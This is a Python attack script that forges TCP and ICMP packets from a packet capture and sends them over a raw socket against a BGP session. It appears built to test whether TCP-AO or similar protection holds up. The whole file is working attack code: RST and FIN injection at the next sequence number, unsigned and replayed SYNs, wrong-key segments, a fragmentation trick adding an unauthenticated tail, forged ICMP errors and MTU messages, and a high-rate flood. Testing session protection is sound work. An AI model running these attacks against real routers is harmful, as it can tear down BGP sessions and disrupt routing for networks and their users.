#!/usr/bin/python3
"""Attacks on a BGP session by somebody on the wire who has no key.

Frames are made from those of a capture and sent on an interface of the
namespace this runs in, by a packet socket: no firewall rule and no TCP of the
sender is in the way. Prints one JSON object: what was sent.

The victim is the destination of the forged packets, named by --to; the
pretended sender is the source of the frame taken as template.
"""

import argparse
import json
import os
import socket
import struct
import sys
import time

import packets
import tcpao
from packets import ACK, FIN, PSH, RST, SYN, Packet, Segment, checksum

PACKET_QDISC_BYPASS = 20
SOL_PACKET = 263


class Template:
    """A captured frame that can be written again with another content."""

    def __init__(self, frame):
        self.frame = frame
        self.packet = Packet(frame[14:])
        self.segment = Segment(self.packet)

    def ip(self, protocol, payload, fragment=None, source=None):
        """A frame with the template's addresses around `payload`. `fragment` is
        (octet offset, more follow, identification)."""
        packet = self.packet
        source = source or packet.source
        ends = source + packet.destination
        if packet.version == 4:
            offset, more, ident = fragment or (0, False, 0)
            flags = 0x4000 if fragment is None else (0x2000 if more else 0) | offset // 8
            header = struct.pack(">BBHHHBBH", 0x45, packet.header[1], 20 + len(payload), ident,
                                 flags, packet.ttl, protocol, 0) + ends
            header = header[:10] + struct.pack(">H", checksum(header)) + header[12:]
        else:
            if fragment is not None:
                offset, more, ident = fragment
                payload = struct.pack(">BBHI", protocol, 0, offset | more, ident) + payload
                protocol = packets.FRAGMENT
            header = packet.header[:4] + struct.pack(">HBB", len(payload), protocol,
                                                     packet.ttl) + ends
        return self.frame[:14] + header + payload

    def tcp(self, flags, seq=None, ack=None, options=b"", payload=b"", ports=None):
        """The octets of a TCP segment with a right checksum; sequence numbers
        are the template's next ones unless given."""
        segment = self.segment
        seq = segment.seq + segment.span if seq is None else seq
        ack = segment.ack if ack is None else ack
        ports = ports or (segment.source_port, segment.destination_port)
        offset = (20 + len(options)) // 4 << 4
        data = struct.pack(">HHIIBBHHH", *ports, seq % (1 << 32), ack % (1 << 32), offset, flags,
                           segment.window, 0, 0) + options + payload
        total = checksum(self.packet.pseudo_header(len(data)) + data)
        return data[:16] + struct.pack(">H", total) + data[18:]

    def forged_option(self, mac=None):
        """A TCP-AO option with the template's KeyIDs and lengths."""
        found = tcpao.option(self.segment)
        _, key_id, next_id, carried = found or (0, 1, 1, bytes(12))
        mac = os.urandom(len(carried)) if mac is None else mac
        return bytes([tcpao.KIND, 4 + len(mac), key_id, next_id]) + mac


def frames_to(capture, victim, port, wanted=lambda segment: True):
    """Frames of the capture that carry a TCP segment to the victim."""
    found = []
    for link, frame in packets.read_pcap(capture):
        if link != packets.ETHERNET:
            raise ValueError("the capture must be of an Ethernet interface")
        data = packets.ip_of(link, frame)
        packet = Packet(data) if data else None
        if packet is None or packet.protocol != packets.TCP or packet.fragment:
            continue
        segment = Segment(packet)
        if (packet.addresses[1] == victim and port in (segment.source_port,
                                                       segment.destination_port)
                and wanted(segment)):
            found.append(frame)
    return found


def template(arguments, wanted=lambda segment: not segment.flags & SYN):
    """The newest frame to the victim, of the newest connection."""
    frames = frames_to(arguments.capture, arguments.to, arguments.port, wanted)
    if not frames:
        raise SystemExit(f"{arguments.capture}: no suitable segment to {arguments.to}")
    return Template(frames[-1])


def rst(arguments):
    """Resets at the exact next sequence number, and across the window."""
    forged = template(arguments)
    start = forged.segment.seq + forged.segment.span
    for number in range(arguments.count):
        yield forged.ip(packets.TCP, forged.tcp(RST | ACK, seq=start + number * 1000))
        yield forged.ip(packets.TCP, forged.tcp(RST, seq=start + number * 1000, ack=0))


def fin(arguments):
    """Unsigned data and FIN at the exact next sequence number."""
    forged = template(arguments)
    for _ in range(arguments.count):
        yield forged.ip(packets.TCP, forged.tcp(PSH | ACK, payload=b"\xff" * 19))
        yield forged.ip(packets.TCP, forged.tcp(FIN | ACK))


def syn(arguments):
    """Unsigned SYNs: for the live connection, and for new ones."""
    forged = template(arguments)
    port = forged.segment.source_port
    mss = bytes([2, 4, 5, 180])
    for number in range(arguments.count):
        for ports in [None, (20000 + number, arguments.port), (port, arguments.port)]:
            seq = int.from_bytes(os.urandom(4), "big")
            yield forged.ip(packets.TCP, forged.tcp(SYN, seq=seq, ack=0, options=mss, ports=ports))


def wrong_key(arguments):
    """Segments at the exact next sequence number, signed with another key."""
    forged = template(arguments)
    for _ in range(arguments.count):
        for flags, payload in [(PSH | ACK, b"\xff" * 19), (RST | ACK, b"")]:
            option = forged.forged_option()
            yield forged.ip(packets.TCP, forged.tcp(flags, options=option, payload=payload))


def replay(arguments):
    """Old segments of the session, unchanged, and its SYN or SYN-ACK."""
    old = frames_to(arguments.capture, arguments.to, arguments.port)
    opening = [frame for frame in old if Segment(Packet(frame[14:])).flags & SYN]
    carrying = [frame for frame in old if Segment(Packet(frame[14:])).payload]
    chosen = carrying[:arguments.count] + opening
    if not chosen:
        raise SystemExit(f"{arguments.capture}: nothing to replay")
    yield from chosen


def replay_syn(arguments):
    """The captured SYN of the session, unchanged, several times."""
    opening = template(arguments, lambda segment: segment.flags & (SYN | ACK) == SYN)
    for _ in range(arguments.count):
        yield opening.frame


def fragment(arguments):
    """A signed segment, whole, as first fragment with a tail that no MAC
    covers. The tail's sum cancels what it adds to the checksum, so not only the
    first fragment has a right one, but also what is reassembled. With IPv6, an
    atomic fragment comes along."""
    newest = template(arguments)
    if tcpao.option(newest.segment):
        signed = template(arguments, lambda segment: not segment.flags & SYN
                          and len(segment.octets) % 8 == 0)
        octets = signed.segment.octets
    else:
        signed, octets = newest, newest.tcp(ACK, options=b"\x01" * 4)
    tail = b"\xff" * 62
    whole = signed.packet.pseudo_header(len(octets) + len(tail) + 2) + octets + tail
    tail += struct.pack(">H", checksum(whole))
    for number in range(arguments.count):
        ident = 0x4000 + number
        yield signed.ip(packets.TCP, octets, fragment=(0, True, ident))
        yield signed.ip(packets.TCP, tail, fragment=(len(octets), False, ident))
        if signed.packet.version == 6:
            yield signed.ip(packets.TCP, octets, fragment=(0, False, ident + 0x1000))


def icmp(arguments):
    """Hard and soft errors and a small MTU, quoting the victim's own segment:
    one in flight, by its newest sequence number, and one long gone."""
    toward = template(arguments)
    packet, segment = toward.packet, toward.segment
    # What the victim sent: its ports and addresses, its next sequence number.
    for seq in (segment.ack, segment.ack - 1, segment.ack - 0x10000000, segment.ack + 0x10000000):
        quoted = struct.pack(">HHI", segment.destination_port, segment.source_port,
                             seq % (1 << 32))
        if packet.version == 4:
            header = struct.pack(">BBHHHBBH", 0x45, 0, 60, 0, 0x4000, 64, 6, 0)
            header += packet.destination + packet.source
            header = header[:10] + struct.pack(">H", checksum(header)) + header[12:]
            errors = [(3, code, 0) for code in (0, 1, 2, 3, 5, 9, 10, 13)]
            errors += [(11, 0, 0), (12, 0, 0)]
            errors += [(3, 4, mtu) for mtu in arguments.mtu]
        else:
            header = struct.pack(">IHBB", 0x60000000, 40, 6, 64)
            header += packet.destination + packet.source
            errors = [(1, code, 0) for code in range(7)] + [(3, 0, 0), (4, 1, 0)]
            errors += [(2, 0, mtu) for mtu in arguments.mtu]
        rest = quoted + bytes(8) + b"\x50\x10" + bytes(6) + bytes(20)
        for kind, code, value in errors:
            body = struct.pack(">BBHI", kind, code, 0, value) + header + rest
            if packet.version == 4:
                total = checksum(body)
                protocol = packets.ICMP
            else:
                total = checksum(packet.source + packet.destination
                                 + struct.pack(">II", len(body), packets.ICMPV6) + body)
                protocol = packets.ICMPV6
            body = body[:2] + struct.pack(">H", total) + body[4:]
            for _ in range(arguments.count):
                yield toward.ip(protocol, body)


def flood(arguments):
    """Frames for the flood: in-window segments of the live connection with
    wrong MACs, a few thousand different ones."""
    forged = template(arguments)
    start = forged.segment.seq + forged.segment.span
    for number in range(2048):
        option = forged.forged_option()
        yield forged.ip(packets.TCP, forged.tcp(PSH | ACK, seq=start + number, options=option,
                                                payload=b"\xff" * 100))


def send_flood(arguments):
    """Sends the flood at --rate for --seconds, evenly, and says what was
    reached."""
    frames = list(flood(arguments))
    link = link_of(arguments.interface)
    link.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
    sent = failed = 0
    start = time.monotonic()
    end = start + arguments.seconds
    while (now := time.monotonic()) < end:
        due = int((now - start) * arguments.rate)
        for _ in range(min(due - sent - failed, len(frames))):
            try:
                link.send(frames[sent % len(frames)])
                sent += 1
            except OSError:  # the interface's queue is full
                failed += 1
    return {"sent": sent, "failed": failed, "rate": int(sent / (time.monotonic() - start))}


def link_of(interface):
    """A packet socket bound to the interface."""
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    link.bind((interface, 0))
    return link


def send(arguments, frames):
    """Sends frames one after the other."""
    link = link_of(arguments.interface)
    count = 0
    for frame in frames:
        link.send(frame)
        count += 1
    return {"sent": count}


ATTACKS = {"rst": rst, "fin": fin, "syn": syn, "wrong-key": wrong_key, "replay": replay,
           "replay-syn": replay_syn, "fragment": fragment, "icmp": icmp}


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("attack", choices=[*ATTACKS, "flood"])
    parser.add_argument("--capture", required=True, help="pcap file, may still be written")
    parser.add_argument("--interface", required=True, help="where to send")
    parser.add_argument("--to", required=True, help="address of the victim")
    parser.add_argument("--port", type=int, default=179)
    parser.add_argument("--count", type=int, default=10)
    parser.add_argument("--mtu", type=int, action="append", default=[], help="of forged ICMP")
    parser.add_argument("--rate", type=int, default=100_000, help="of the flood, per second")
    parser.add_argument("--seconds", type=float, default=5, help="of the flood")
    arguments = parser.parse_args()
    if not arguments.mtu:
        arguments.mtu = [0, 68, 552, 1280]
    if arguments.attack == "flood":
        result = send_flood(arguments)
    else:
        result = send(arguments, ATTACKS[arguments.attack](arguments))
    json.dump({"attack": arguments.attack, **result}, sys.stdout)
    print()


if __name__ == "__main__":
    main()
